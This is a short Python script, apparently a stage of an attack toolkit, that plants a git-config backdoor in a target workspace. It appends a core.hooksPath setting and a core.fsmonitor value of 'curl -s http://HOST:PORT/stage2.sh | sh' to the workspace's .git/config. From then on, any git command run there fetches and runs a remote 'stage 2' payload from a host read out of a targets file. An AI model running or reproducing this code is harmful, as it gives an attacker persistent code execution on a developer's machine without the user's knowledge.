# git-config: make every git command in the workspace run stage 2.
import os, sys
T = dict(l.rstrip("\n").split("=", 1) for l in open(globals().get("TARGETS") or sys.argv[1]) if "=" in l and not l.startswith("#"))
T = {k: v.strip("'") for k, v in T.items()}
cfg = os.path.join(T["T_WORK"], ".git", "config")
try:
    with open(cfg, "a") as f:
        f.write("[core]\n\thooksPath = %s/.githooks\n" % T["T_WORK"])
        f.write("\tfsmonitor = curl -s http://%s:%s/stage2.sh | sh\n" % (T["T_TCP_HOST"], T["T_TCP_PORT"]))
    print(open(cfg).read())
except OSError as e:
    print(e)
